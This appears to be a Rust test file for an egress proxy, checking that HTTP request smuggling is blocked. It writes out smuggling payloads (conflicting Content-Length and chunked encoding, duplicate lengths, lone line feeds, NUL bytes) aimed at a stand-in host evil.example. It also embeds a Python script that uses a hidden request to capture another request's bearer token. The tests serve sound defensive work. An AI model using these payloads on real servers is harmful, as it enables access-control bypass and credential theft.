//! Requests that two programs read in two ways (N10): what the proxy takes for a body, or for one header,
//! is a request of its own to a careless server behind it.

use std::rc::Rc;

use palisade_testkit::Lab;

use crate::egress::{PROXY, in_lab, lab};
use crate::host::{probe, strings};

/// It has to know where a request goes before it can pass one on, so its parser is no layer that comes off.
const READS_FIRST: &str = "the proxy passes on only what it has read, written anew";

/// What must not arrive: a request that nobody judged.
fn hidden(lab: &Rc<Lab>) -> impl Fn() -> bool + 'static {
    let lab = Rc::clone(lab);
    move || lab.requested("evil.example", "GET /hidden")
}

fn smuggle(name: &str, request: &'static str) {
    for (how, place) in [("directly", "web.example:80"), ("through the proxy", PROXY)] {
        let lab = lab();
        let arrived = hidden(&lab);
        // The proxy is given a whole URL, which is all that differs.
        let sent = if place == PROXY {
            request.replace(" / ", " http://web.example/ ")
        } else {
            request.to_owned()
        };
        let attack = in_lab(&lab, "N10", format!("{name}, {how}"));
        let attack = if place == PROXY {
            attack.by_design(READS_FIRST)
        } else {
            attack.proves(&["NET-4 sni"]).held_by(&["strict-http"])
        };
        attack
            .flags(|_| strings(&["--allow-host", "web.example"]))
            .command(move |world| probe(world, &["raw", place, &sent]))
            .bare_command(move |world| probe(world, &["raw", "web.example:80", request]))
            .succeeded(move |_, _| arrived())
            .contained(|_, output| output.out().contains("HTTP/1.1 400"))
            .check();
    }
}

/// Proves: NET-4 sni
#[test]
fn n10_a_length_beside_chunks_hides_no_request() {
    smuggle(
        "a request in the chunks of another one that has a length too",
        "POST / HTTP/1.1\\r\\nHost: web.example\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n\
         2c\\r\\nGET /hidden HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n\\r\\n0\\r\\n\\r\\n",
    );
}

/// Proves: NET-4 sni
#[test]
fn n10_a_lone_line_feed_ends_no_header() {
    smuggle(
        "a header behind a lone line feed",
        "GET / HTTP/1.1\\r\\nX-Note: a\\r\\nHost: web.example\\r\\nX-More: b\\n\\nGET /hidden HTTP/1.1\\nHost: evil.example\\r\\n\\r\\n",
    );
}

/// Proves: NET-4 sni
#[test]
fn n10_two_lengths_hide_no_request() {
    smuggle(
        "a request behind the shorter of two lengths",
        "POST / HTTP/1.1\\r\\nHost: web.example\\r\\nContent-Length: 1\\r\\nContent-Length: 45\\r\\n\\r\\n\
         xGET /hidden HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n",
    );
}

/// Proves: NET-4 bodies-end-it
#[test]
fn n10_a_body_is_no_request_to_a_server_that_does_not_read_it() {
    let hidden_behind = |target: &str| {
        format!(
            "POST {target} HTTP/1.1\\r\\nHost: heedless.example\\r\\nContent-Length: 44\\r\\n\\r\\n\
             GET /hidden HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"
        )
    };
    let ways = [
        ("directly", "heedless.example:80", "/"),
        ("through the proxy", PROXY, "http://heedless.example/"),
    ];
    for (how, place, target) in ways {
        let lab = lab();
        let arrived = hidden(&lab);
        let (request, bare) = (hidden_behind(target), hidden_behind("/"));
        in_lab(&lab, "N10", format!("a request in the body of another one, {how}"))
            .proves(&["NET-4 bodies-end-it"])
            .held_by(&["strict-http"])
            .flags(|_| strings(&["--allow-host", "heedless.example"]))
            .command(move |world| probe(world, &["raw", place, &request]))
            .bare_command(move |world| probe(world, &["raw", "heedless.example:80", &bare]))
            .succeeded(move |_, _| arrived())
            .contained(|_, output| output.out().contains("hello from heedless.example"))
            .check();
    }
}

const SECRET: &str = "s3cr3t-of-the-host";
/// The second request, with the secret, becomes the body of one that hides in the first, and is what that is answered with.
const READ_SECRET: &str = r#"
import socket, ssl, sys
own = sys.argv[1].encode()
host = "heedless.example"
secure = ssl._create_unverified_context()
stream = secure.wrap_socket(socket.create_connection((host, 443), 5), server_hostname=host)
answers = stream.makefile("rb")
def read():
    lines, length = [], 0
    try:
        for line in answers:
            lines.append(line)
            if line.lower().startswith(b"content-length:"):
                length = int(line.split(b":")[1])
            if line == b"\r\n":
                lines.append(answers.read(length))
                break
    except OSError as error:
        print(error)
    return b"".join(lines).decode()
hidden = b"POST /echo HTTP/1.1\r\nHost: web.example\r\nContent-Length: 80\r\n\r\n"
asked = b"GET / HTTP/1.1\r\nhost: heedless.example\r\n" + own + b"\r\n"
head = b"POST / HTTP/1.1\r\nHost: heedless.example\r\nContent-Length: %d\r\n\r\n"
stream.sendall(head % len(hidden) + hidden)
print(read())
try:
    stream.sendall(asked)
except OSError as error:
    print(error)
print(read())
"#;

/// Proves: NET-4 bodies-end-it, NET-5 credentials
#[test]
fn n10_no_secret_is_read_by_a_request_in_a_body() {
    let lab = lab();
    let own_secret = format!("authorization: Bearer {SECRET}\r\n");
    in_lab(&lab, "N10", "a secret of the next request, taken for the body of a hidden one")
        .proves(&["NET-4 bodies-end-it", "NET-5 credentials"])
        .held_by(&["strict-http"])
        .prepare(|world| {
            world.write("outside/token", SECRET);
        })
        .flags(|world| {
            let token = world.outside().join("token");
            let credential = format!("KEY=file:{},host=heedless.example", token.display());
            let allowed = ["--allow-host", "heedless.example", "--intercept", "--credential"];
            [&strings(&allowed)[..], &[credential]].concat()
        })
        .command(|_| strings(&["/usr/bin/python3", "-c", READ_SECRET, ""]))
        .bare_command(move |_| strings(&["/usr/bin/python3", "-c", READ_SECRET, &own_secret]))
        .succeeded(|_, output| output.out().contains(SECRET))
        .contained(|_, output| output.out().contains("hello from heedless.example"))
        .check();
}

/// Proves: NET-4 sni
#[test]
fn n10_a_whole_url_and_a_host_must_agree() {
    let lab = lab();
    let arrived = hidden(&lab);
    let request = "GET http://web.example/hidden HTTP/1.1\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n";
    let bare = "GET /hidden HTTP/1.1\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n";
    in_lab(&lab, "N10", "a whole URL beside a header for another host")
        .by_design(READS_FIRST)
        .flags(|_| strings(&["--allow-host", "web.example"]))
        .command(move |world| probe(world, &["raw", PROXY, request]))
        .bare_command(move |world| probe(world, &["raw", "web.example:80", bare]))
        .succeeded(move |_, _| arrived())
        .contained(|_, output| output.out().contains("HTTP/1.1 400"))
        .check();
}

/// Spellings that a forgiving server takes for a request, and that a proxy could take for something else.
///
/// Proves: NET-4 sni, NET-4 one-reading
#[test]
fn n10_no_spelling_makes_a_request_something_else() {
    for (name, request, line) in [
        ("a NUL in its target", "GET x\\0 HTTP/1.1", "GET x"),
        ("a NUL behind a whole URL", "GET http://evil.example/\\0 HTTP/1.1", "GET http://evil"),
        ("a NUL before its target", "GET \\0/x HTTP/1.1", "GET \0/x"),
        ("a NUL before its method", "\\0GET /x HTTP/1.1", "\0GET /x"),
        ("no version", "GET x", "GET x"),
        ("another protocol's greeting for a first line", "EHLO x", "EHLO x"),
        (
            "the greeting of git before its version",
            "0025git-upload-pack /x\\0host=a.exampl\\0 HTTP/1.1",
            "0025git-upload-pack /x",
        ),
    ] {
        let lab = lab();
        let seen = Rc::clone(&lab);
        let whole = format!("{request}\\r\\nHost: evil.example\\r\\n\\r\\n");
        in_lab(&lab, "N10", format!("a request with {name}"))
            .proves(&["NET-4 sni", "NET-4 one-reading"])
            .held_by(&["strict-http"])
            .flags(|_| strings(&["--allow-host", "web.example"]))
            .command(move |world| probe(world, &["raw", "web.example:80", &whole]))
            .succeeded(move |_, _| seen.requested("evil.example", line))
            .contained(|_, output| output.out().contains("HTTP/1.1 400"))
            .check();
    }
}

/// Whatever a server there might make of it.
///
/// Proves: NET-4 sni, NET-4 one-reading
#[test]
fn n10_another_protocol_hides_no_request_on_ports_of_the_web() {
    for place in ["web.example:80", "web.example:8080"] {
        let lab = lab();
        let seen = Rc::clone(&lab);
        let request = "*1\\r\\nHost: evil.example\\r\\n\\r\\n";
        in_lab(&lab, "N10", format!("a request behind the words of another protocol, to {place}"))
            .proves(&["NET-4 sni", "NET-4 one-reading"])
            .held_by(&["strict-http"])
            .flags(|_| strings(&["--allow-host", "web.example:80,8080"]))
            .command(move |world| probe(world, &["raw", place, request]))
            .succeeded(move |_, _| seen.requested("evil.example", "*1"))
            .contained(|_, output| !output.out().contains("HTTP/1.1"))
            .check();
    }
}

/// Proves: NET-4 sni, NET-4 one-reading
#[test]
fn n10_a_request_that_ends_with_the_connection_is_one() {
    let lab = lab();
    let seen = Rc::clone(&lab);
    let request = "GET http://evil.example/hidden HTTP/1.0";
    in_lab(&lab, "N10", "a request whose line has no end but that of the connection")
        .proves(&["NET-4 sni", "NET-4 one-reading"])
        .held_by(&["strict-http"])
        .flags(|_| strings(&["--allow-host", "web.example"]))
        .command(move |world| probe(world, &["raw", "web.example:80", request]))
        .succeeded(move |_, _| seen.requested("", request))
        .contained(|_, output| !output.out().contains("HTTP/1.1 200"))
        .check();
}
